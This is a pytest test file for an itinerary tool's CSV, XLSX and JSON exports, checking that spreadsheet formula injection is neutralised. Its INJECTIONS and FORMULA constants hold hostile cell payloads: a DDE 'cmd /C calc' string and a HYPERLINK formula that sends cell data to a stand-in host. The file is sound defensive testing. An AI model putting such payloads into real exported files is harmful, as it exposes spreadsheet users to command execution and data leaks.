"""The table exports (`csv`, `xlsx`) and the `json` export, on both examples and hostile plans."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from dataclasses import fields
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import openpyxl.worksheet._writer
import pytest
from conftest import GOLDEN, example_plan
from openpyxl.utils import get_column_letter
from typer.testing import CliRunner

from itinerary.cli import app
from itinerary.input.spec import Contact
from itinerary.plan import EndItem, Item, Plan, StartItem, TravelItem, Unscheduled, VisitItem
from itinerary.render import RenderOptions, render
from itinerary.render.i18n import LABELS, Words, clock, end_label, start_label
from itinerary.render.rows import COLUMNS, Row, headers, neutralise_formula
from itinerary.render.terminal import score_line
from itinerary.render.xlsx_export import KEY_HEADER, sheet_title

EXAMPLE_NAMES = ("its-owl-week", "limoges-symposium")
INJECTIONS = (
    '=HYPERLINK("http://evil")',
    "+A1",
    "-2+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)
# Not formulas: a spreadsheet shows them as they are, so they are written as they are.
PHONES_AND_NUMBERS = ("+49 521 106-0", "-", "+33 (0)5 55 00 00 00", "-2.5", "-2,5", "+1/555.0100")


@pytest.fixture(scope="module")
def plans() -> dict[str, Plan]:
    return {name: example_plan(name) for name in EXAMPLE_NAMES}


def items(plan: Plan) -> list[tuple[dt.date, Item]]:
    return [(track.date, item) for track in plan.tracks for item in track.items]


def local_clock(plan: Plan, item: Item) -> tuple[str, str]:
    """The item's start and end as wall-clock times in the trip's zone."""
    zone = ZoneInfo(plan.trip.timezone)
    if isinstance(item, StartItem | EndItem):
        return (clock(item.time.astimezone(zone)),) * 2
    return clock(item.start.astimezone(zone)), clock(item.end.astimezone(zone))


def with_first_visit(plan: Plan, **changes: object) -> Plan:
    """`plan` with its first visit changed as given (ids and names as an attacker might write)."""
    track = plan.tracks[0]
    index = next(i for i, item in enumerate(track.items) if isinstance(item, VisitItem))
    visit = track.items[index].model_copy(update=changes)
    new_items = [*track.items[:index], visit, *track.items[index + 1 :]]
    tracks = [track.model_copy(update={"items": new_items}), *plan.tracks[1:]]
    return plan.model_copy(update={"tracks": tracks})


def hostile(plan: Plan) -> Plan:
    """Every injection in a different cell, plus a trip name for the overview sheet."""
    name, address, contact, phone, visit_id, email = INJECTIONS
    contact_of = Contact(name=contact, phone=phone, email=email)
    changed = with_first_visit(plan, id=visit_id, name=name, address=address, contact=contact_of)
    trip = plan.trip.model_copy(update={"name": "=1+1"})
    return changed.model_copy(update={"trip": trip})


def first_visit_index(plan: Plan) -> int:
    return next(i for i, (_, item) in enumerate(items(plan)) if isinstance(item, VisitItem))


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def key_id(item: Item) -> str | None:
    """The id an item's hidden xlsx key gives it: a host, event or place key, from>to."""
    if isinstance(item, StartItem | EndItem):
        return item.key
    if isinstance(item, TravelItem):
        return f"{item.from_}>{item.to}"
    return getattr(item, "id", None) or getattr(item, "at", None)


def read_xlsx(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


# --- the shared rows -----------------------------------------------------------------------


def test_row_has_one_field_per_column() -> None:
    assert [f.name for f in fields(Row)][4:6] == ["type", "id"]
    assert len(fields(Row)) == len(COLUMNS)


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_starts_get_an_apostrophe(text: str) -> None:
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Ceradrop", "a=b", " =1", "", "'quoted", "12", *PHONES_AND_NUMBERS]
)
def test_other_text_is_unchanged(text: str) -> None:
    assert neutralise_formula(text) == text


@pytest.mark.parametrize("text", ["+1 A", "-1:2", "+1*2", "-2%", "+1e5", "-\t1", "+1\n=2"])
def test_a_sign_followed_by_anything_but_a_number_is_neutralised(text: str) -> None:
    # Letters (functions, references, DDE), ":" (a range), operators beyond + and -, a tab or
    # a line break: not a phone number, so it gets the apostrophe.
    assert neutralise_formula(text) == "'" + text


# --- csv -----------------------------------------------------------------------------------


@pytest.mark.parametrize("example", EXAMPLE_NAMES)
def test_csv_has_one_row_per_item_with_the_plans_times(plans, example) -> None:
    plan = plans[example]
    w = Words(plan.trip.language)
    header, *body = read_csv(render(plan, "csv"))
    assert header == headers(w)
    assert len(body) == len(items(plan))
    for row, (date, item) in zip(body, items(plan), strict=True):
        cells = dict(zip(COLUMNS, row, strict=True))
        assert cells["date"] == date.isoformat()
        assert (cells["start_time"], cells["end_time"]) == local_clock(plan, item)
        if isinstance(item, StartItem):
            assert cells["type"] == start_label(item, w)  # "Arrival" on the arrival day
        elif isinstance(item, EndItem):
            assert cells["type"] == end_label(item, w)  # "Departure at 16:00" on the last
        else:
            assert cells["type"] == w[item.type]
        minutes = str(item.minutes) if isinstance(item, TravelItem) else ""
        assert cells["travel_min"] == minutes
        if isinstance(item, VisitItem):
            assert (cells["id"], cells["name"]) == (item.id, item.name)
            assert cells["email"] == (item.contact.email if item.contact else "")


@pytest.mark.parametrize("example", EXAMPLE_NAMES)
def test_csv_is_utf8_with_bom_and_crlf(plans, example) -> None:
    content = render(plans[example], "csv")
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.endswith(b"\r\n")
    assert b"\n" not in content.replace(b"\r\n", b"")
    assert content.count(b"\r\n") == len(items(plans[example])) + 1


def test_csv_formulas_are_inert_and_numbers_stay_numbers(plans) -> None:
    plan = hostile(plans["limoges-symposium"])
    body = read_csv(render(plan, "csv"))[1:]
    visit = dict(zip(COLUMNS, body[first_visit_index(plan)], strict=True))
    name, address, contact, phone, visit_id, email = INJECTIONS
    assert visit["name"] == "'" + name
    assert visit["address"] == "'" + address
    assert visit["contact"] == "'" + contact
    assert visit["phone"] == "'" + phone
    assert visit["id"] == "'" + visit_id
    assert visit["email"] == "'" + email
    travel_minutes = [row[COLUMNS.index("travel_min")] for row in body if row[-1]]
    assert travel_minutes and all(m.isdigit() for m in travel_minutes)


def test_csv_keeps_commas_quotes_and_line_breaks_in_one_cell(plans) -> None:
    name = 'Müller, "Labs"; C:\\x\nsecond line 🚀'
    plan = with_first_visit(plans["its-owl-week"], name=name)
    body = read_csv(render(plan, "csv"))[1:]
    assert len(body) == len(items(plan))
    assert body[first_visit_index(plan)][COLUMNS.index("name")] == name


@pytest.mark.parametrize("lang", ["de", "fr"])
def test_csv_headers_and_types_are_localised(plans, lang) -> None:
    plan = plans["its-owl-week"]
    header, *body = read_csv(render(plan, "csv", RenderOptions(lang=lang)))
    types = {row[COLUMNS.index("type")] for row in body}
    english = {LABELS["en"][k] for k in LABELS["en"] if LABELS["en"][k] != LABELS[lang][k]}
    assert header == headers(Words(lang))
    assert not english & set(header)
    assert not english & types


# --- xlsx ----------------------------------------------------------------------------------


@pytest.mark.parametrize("example", EXAMPLE_NAMES)
def test_xlsx_sheets_for_the_organiser_and_the_delegation(plans, example) -> None:
    plan = plans[example]
    w = Words(plan.trip.language)
    days = [track.date.isoformat() for track in plan.tracks]
    organiser = read_xlsx(render(plan, "xlsx", RenderOptions(audience="organiser")))
    delegation = read_xlsx(render(plan, "xlsx", RenderOptions(audience="delegation")))
    # A matchmaking event has a sheet of its own (issue 21), named after it (cut to 31).
    events = [e.name[:31] for e in plan.matchmaking_events()]
    assert organiser.sheetnames == [w["overview"], *days, *events, w["unscheduled"]]
    assert delegation.sheetnames == [w["overview"], *days, *events]


@pytest.mark.parametrize("example", EXAMPLE_NAMES)
def test_xlsx_day_sheets_hold_typed_cells(plans, example) -> None:
    plan = plans[example]
    book = read_xlsx(render(plan, "xlsx"))
    for track in plan.tracks:
        sheet = book[track.date.isoformat()]
        header = next(sheet.iter_rows(max_row=1))
        # the visible columns, then the hidden key `itinerary check` reads an edited sheet by
        assert [c.value for c in header] == [*headers(Words(plan.trip.language)), KEY_HEADER]
        assert sheet.column_dimensions["N"].hidden
        assert all(c.font.b and c.fill.fgColor.rgb.endswith("DDEBF7") for c in header[:-1])
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:M{len(track.items) + 1}"  # 13 columns, Note included
        widths = [sheet.column_dimensions[get_column_letter(c)].width for c in range(1, 13)]
        # (below the table, a holiday or note row leaves the column empty)
        longest_name = max(len(row.value) for row in sheet["G"] if row.value is not None)
        assert widths[2] == widths[3] < 13  # times are narrower than openpyxl's default width
        assert widths[6] == min(longest_name + 2, 60)
        rows = sheet.iter_rows(min_row=2, max_row=len(track.items) + 1)
        for item, row in zip(track.items, rows, strict=True):
            cells = dict(zip(COLUMNS, row[:-1], strict=True))
            assert json.loads(row[-1].value)[:3] == [item.type, key_id(item), str(track.date)]
            assert cells["date"].value.date() == track.date
            assert cells["date"].number_format == "yyyy-mm-dd"
            start, end = cells["start_time"].value, cells["end_time"].value
            assert isinstance(start, dt.time) and isinstance(end, dt.time)
            assert (clock(start), clock(end)) == local_clock(plan, item)
            assert cells["start_time"].number_format == "hh:mm"
            if isinstance(item, TravelItem):
                assert cells["travel_min"].value == item.minutes
                assert isinstance(cells["travel_min"].value, int)
            else:
                assert cells["travel_min"].value is None


def test_xlsx_day_sheet_shows_the_days_notes(plans) -> None:
    plan = plans["its-owl-week"]
    track = plan.tracks[0].model_copy(update={"notes": ["no lunch today"]})
    plan = plan.model_copy(update={"tracks": [track, *plan.tracks[1:]]})
    sheet = read_xlsx(render(plan, "xlsx"))[track.date.isoformat()]
    note_row = len(track.items) + 3
    assert (sheet.cell(note_row, 1).value, sheet.cell(note_row, 2).value) == (
        Words("en")["note"],
        "no lunch today",
    )


@pytest.mark.parametrize("example", EXAMPLE_NAMES)
def test_xlsx_overview_sums_up_and_lists_every_item(plans, example) -> None:
    plan = plans[example]
    w = Words(plan.trip.language)
    sheet = read_xlsx(render(plan, "xlsx"))[w["overview"]]
    facts = {sheet.cell(r, 1).value: sheet.cell(r, 2) for r in range(1, 7)}
    assert facts[w["trip"]].value == plan.trip.name
    assert facts[w["score"]].value == score_line(plan, w)
    assert facts[w["status"]].value == w[plan.status]
    assert facts[w["total_travel"]].value == plan.travel_minutes
    assert facts[w["dates"]].value == w.date_range(plan.trip.start, plan.trip.end)
    assert all(sheet.cell(r, 1).font.b for r in range(1, 7))
    assert [c.value for c in sheet[8]] == [*headers(w), KEY_HEADER]
    assert sheet.freeze_panes == "A9"
    assert sheet.auto_filter.ref == f"A8:M{8 + len(items(plan))}"
    starts = [clock(row[2]) for row in sheet.iter_rows(min_row=9, values_only=True)]
    assert starts == [local_clock(plan, item)[0] for _, item in items(plan)]


def test_xlsx_unscheduled_sheet_lists_what_was_left_out(plans) -> None:
    plan = plans["limoges-symposium"]
    w = Words(plan.trip.language)
    more = [
        Unscheduled(id="gala", name="Gala", kind="event", reason="clashes with the reception"),
        Unscheduled(id="musée", name="Musée", priority="must", reason="closed on Thursdays"),
    ]
    plan = plan.model_copy(update={"unscheduled": [*plan.unscheduled, *more]})
    sheet = read_xlsx(render(plan, "xlsx"))[w["unscheduled"]]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == (w["id"], w["name"], w["priority"], w["reason"], KEY_HEADER)
    assert [json.loads(r[-1]) for r in rows[1:]] == [["left_out", u.id] for u in plan.unscheduled]
    rows = [r[:-1] for r in rows]
    expected = [(u.id, u.name, u.priority, w.reason(u)) for u in plan.unscheduled[:-2]]
    assert rows[1:-2] == expected
    assert "priorité" in rows[1][3]  # the planner's reasons are worded in the plan's language
    assert rows[-2:] == [
        ("gala", "Gala", w["event"], "clashes with the reception"),
        ("musée", "Musée", w["must"], "closed on Thursdays"),
    ]
    assert len(rows) == 1 + len(plan.unscheduled) > 3


def test_xlsx_formulas_are_inert_strings(plans) -> None:
    plan = hostile(plans["limoges-symposium"])
    book = read_xlsx(render(plan, "xlsx"))
    assert not [c for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    day = book[plan.tracks[0].date.isoformat()]
    visit_row = next(
        r for r in day.iter_rows(min_row=2) if r[COLUMNS.index("type")].value == "Visite"
    )
    cells = dict(zip(COLUMNS, visit_row[:-1], strict=True))
    name, address, contact, phone, visit_id, email = INJECTIONS
    expected = {"name": name, "address": address, "contact": contact, "phone": phone}
    expected |= {"id": visit_id, "email": email}
    for column, text in expected.items():
        # A string cell, never run, so shown exactly as written: no apostrophe to see.
        assert cells[column].data_type == "s"
        assert cells[column].value == text.replace("\r", "\n")  # Excel breaks lines with LF
    trip = book[Words("fr")["overview"]]["B1"]
    assert (trip.data_type, trip.value) == ("s", "=1+1")
    with zipfile.ZipFile(io.BytesIO(render(plan, "xlsx"))) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)


def test_xlsx_replaces_control_characters_it_cannot_store(plans) -> None:
    plan = with_first_visit(plans["its-owl-week"], id="a\x01b", name="bell\x07")
    day = read_xlsx(render(plan, "xlsx"))[plan.tracks[0].date.isoformat()]
    visit_row = next(r for r in day.iter_rows(min_row=2, values_only=True) if r[5] == "a\ufffdb")
    assert visit_row[COLUMNS.index("name")] == "bell\ufffd"


def test_xlsx_is_the_same_bytes_every_time(plans) -> None:
    plan = plans["limoges-symposium"]
    first, second = render(plan, "xlsx"), render(plan, "xlsx")
    assert first == second
    stamp = dt.datetime.combine(plan.trip.start, dt.time())
    assert read_xlsx(first).properties.modified == stamp
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {info.date_time for info in archive.infolist()} == {stamp.timetuple()[:6]}


def test_xlsx_writes_no_temporary_files(plans, monkeypatch) -> None:
    def refuse(*args: object) -> str:
        raise AssertionError("the renderer touched the file system")

    monkeypatch.setattr(openpyxl.worksheet._writer, "create_temporary_file", refuse)
    assert read_xlsx(render(plans["its-owl-week"], "xlsx")).sheetnames


def test_xlsx_sheet_names_are_valid_and_unique(plans) -> None:
    plan = plans["its-owl-week"]
    track = plan.tracks[0]
    groups = ["x" * 40 + "a", "x" * 40 + "b", "a/b", "a:b", "A?B", "'q'"]
    tracks = [track.model_copy(update={"group": group}) for group in groups]
    book = read_xlsx(render(plan.model_copy(update={"tracks": tracks}), "xlsx"))
    day = track.date.isoformat()
    assert book.sheetnames[1:-1] == [
        f"{day} xxxxxxxxxxxxxxxxxxxx",
        f"{day} xxxxxxxxxxxxxxxx (2)",
        f"{day} a_b",
        f"{day} a_b (2)",
        f"{day} A_B (3)",
        f"{day} 'q",
    ]
    assert all(len(name) <= 31 for name in book.sheetnames)


def test_sheet_title_rules() -> None:
    taken = {"history"}
    assert sheet_title("History", taken) == "History (2)"
    assert sheet_title("'quoted'", taken) == "quoted"
    assert sheet_title("[a]*b\\c\n", taken) == "_a__b_c_"
    assert sheet_title("''", taken) == "_"
    assert sheet_title("QUOTED", taken) == "QUOTED (2)"
    assert taken == {"history", "history (2)", "quoted", "_a__b_c_", "_", "quoted (2)"}


@pytest.mark.parametrize("lang", ["de", "fr"])
def test_xlsx_headers_and_sheet_names_are_localised(plans, lang) -> None:
    plan = plans["its-owl-week"]
    w = Words(lang)
    book = read_xlsx(render(plan, "xlsx", RenderOptions(lang=lang)))
    english = {LABELS["en"][k] for k in LABELS["en"] if LABELS["en"][k] != LABELS[lang][k]}
    day = book[plan.tracks[0].date.isoformat()]
    assert [c.value for c in day[1]] == [*headers(w), KEY_HEADER]
    assert not english & {c.value for c in day[1]}
    assert not english & {c.value for c in book[w["overview"]]["A"]}
    assert not english & set(book.sheetnames)
    assert book.sheetnames[-1] == w["unscheduled"]


# --- json ----------------------------------------------------------------------------------


@pytest.mark.parametrize("example", EXAMPLE_NAMES)
def test_json_is_the_plan_as_it_is(plans, example) -> None:
    plan = plans[example]
    text = plan.to_json()
    content = render(Plan.from_json(text), "json", RenderOptions(lang="de", audience="delegation"))
    assert content == text.encode()
    assert Plan.from_json(content) == plan


# --- through the command line: what a spreadsheet shows ------------------------------------

SAVED = GOLDEN / "limoges-plan.json"  # a real, checked plan; exports never plan again
PHONE = "+49 521 106-0"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Ceradrop")'


def export_cli(plan: Plan, tmp_path: Path, fmt: str, *options: str) -> bytes:
    """`plan` saved as JSON and exported by `itinerary export`; the file's bytes."""
    saved = tmp_path / "plan.json"
    saved.write_text(plan.to_json(), encoding="utf-8")
    out = tmp_path / f"plan.{fmt}"
    result = CliRunner().invoke(
        app, ["export", str(saved), "--format", fmt, "--out", str(out), "--force", *options]
    )
    assert result.exit_code == 0, result.output
    return out.read_bytes()


def with_phone_and_formula(plan: Plan) -> Plan:
    contact = Contact(name="Anna Schmidt", phone=PHONE, email="a@example.org")
    return with_first_visit(plan, name=FORMULA, contact=contact)


def test_csv_keeps_a_phone_number_and_neutralises_a_formula(tmp_path: Path) -> None:
    plan = with_phone_and_formula(Plan.from_json(SAVED.read_bytes()))
    body = read_csv(export_cli(plan, tmp_path, "csv"))[1:]
    visit = dict(zip(COLUMNS, body[first_visit_index(plan)], strict=True))
    assert visit["phone"] == PHONE  # read back by the csv module exactly as written
    assert visit["name"] == "'" + FORMULA  # shown by a spreadsheet, never run
    phones = [dict(zip(COLUMNS, row, strict=True))["phone"] for row in body]
    assert all(not p.startswith("'") for p in phones)


def test_xlsx_keeps_a_phone_number_and_a_formula_as_plain_strings(tmp_path: Path) -> None:
    plan = with_phone_and_formula(Plan.from_json(SAVED.read_bytes()))
    book = read_xlsx(export_cli(plan, tmp_path, "xlsx"))
    day = book[plan.tracks[0].date.isoformat()]
    row = list(day.iter_rows(min_row=2))[first_visit_index(plan)]
    cells = dict(zip(COLUMNS, row[:-1], strict=True))
    assert (cells["phone"].data_type, cells["phone"].value) == ("s", PHONE)
    assert (cells["name"].data_type, cells["name"].value) == ("s", FORMULA)
    values = [c.value for ws in book for r in ws.iter_rows() for c in r]
    assert not [v for v in values if isinstance(v, str) and v.startswith("'")]


@pytest.mark.parametrize(
    ("lang", "whole"),
    [("en", "whole delegation"), ("de", "gesamte Delegation"), ("fr", "toute la délégation")],
)
def test_group_and_ids_read_in_the_readers_language(tmp_path: Path, lang: str, whole: str) -> None:
    plan = Plan.from_json(SAVED.read_bytes())
    rows = [
        dict(zip(COLUMNS, row, strict=True))
        for row in read_csv(export_cli(plan, tmp_path, "csv", "--lang", lang))[1:]
    ]
    assert {row["group"] for row in rows} == {whole}
    ids = {row["id"] for row in rows}
    assert not ids & {"all", "arrival", "departure"}
    # The organiser's own ids stay as in the visit file, to join sheets and mail merges on.
    assert {"ceradrop", "symposium"} <= ids
    first, last = rows[0], rows[-1]
    assert (first["id"], first["name"]) == ("", "Gare de Limoges-Bénédictins")  # the arrival
    assert (last["id"], last["name"]) == ("", "Gare de Limoges-Bénédictins")  # the departure
    book = read_xlsx(export_cli(plan, tmp_path, "xlsx", "--lang", lang))
    day = book[plan.tracks[0].date.isoformat()]
    column = COLUMNS.index("group") + 1
    assert {day.cell(r, column).value for r in range(2, day.max_row + 1)} == {whole}
